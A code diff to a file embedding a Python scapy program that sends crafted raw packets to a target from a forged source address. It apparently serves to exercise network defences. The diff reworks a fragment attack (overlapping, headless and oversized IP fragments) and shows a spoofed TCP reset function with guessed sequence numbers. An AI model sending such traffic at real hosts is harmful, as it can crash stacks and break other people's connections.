@@ -15,8 +15,11 @@ export function attacksMissing(): string | undefined {
 }
 
 const PROGRAM = `
-import json, random, socket, sys
-from scapy.all import Ether, ICMP, IP, IPv6, Raw, TCP, UDP
+import json, random, socket, sys, time
+from scapy.layers.l2 import Ether
+from scapy.layers.inet import ICMP, IP, TCP, UDP
+from scapy.layers.inet6 import IPv6
+from scapy.packet import Raw
 asked = json.loads(sys.argv[1])
 count, target, port = asked['count'], asked['target'], asked.get('port', 0)
 wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
@@ -95,19 +98,26 @@ def scan():
 
 def fragments():
     """First ones without an end, later ones without a first, ones that overlap, and ones beyond 65,535 bytes."""
+    first = bytes(UDP(sport=5000, dport=port, len=4000, chksum=0)) + b'a' * 56
+    frames = []
+    for fields, other, data in [
+        ({'flags': 'MF', 'frag': 0}, 0, first),
+        ({'flags': 'MF', 'frag': 4}, 0, b'b' * 64),
+        ({'flags': 'MF', 'frag': 90}, 30000, b'c' * 64),
+        ({'flags': 0, 'frag': 8189}, 0, b'd' * 1400),
+    ]:
+        ip = IP(src=asked['source'], dst=target, id=0, proto=17, **fields)
+        frame = bytearray(bytes(link / ip / Raw(data)))
+        frames.append((frame, other, word(frame, 24) ^ 0xffff))
     for i in range(count):
-        ip = IP(src=asked['source'], dst=target, id=i, proto=17)
-        first = bytes(UDP(sport=5000, dport=port, len=4000, chksum=0)) + b'a' * 56
-        for fields, data in [
-            ({'flags': 'MF', 'frag': 0}, first),
-            ({'flags': 'MF', 'frag': 4}, b'b' * 64),
-            ({'flags': 'MF', 'frag': 90, 'id': (i + 30000) & 0xffff}, b'c' * 64),
-            ({'flags': 0, 'frag': 8189}, b'd' * 1400),
-        ]:
-            part = ip.copy()
-            for name, value in fields.items():
-                setattr(part, name, value)
-            wire.send(bytes(link / part / Raw(data)))
+        for frame, other, sum_ in frames:
+            number = (i + other) & 0xffff
+            put(frame, 18, number)
+            put(frame, 24, fold(sum_ + number) ^ 0xffff)
+            wire.send(frame)
+        # No faster than anybody can read them.
+        if i % 4 == 3:
+            time.sleep(0.002)
 
 def rst():
     """As from the server of a connection, with numbers that are guessed."""
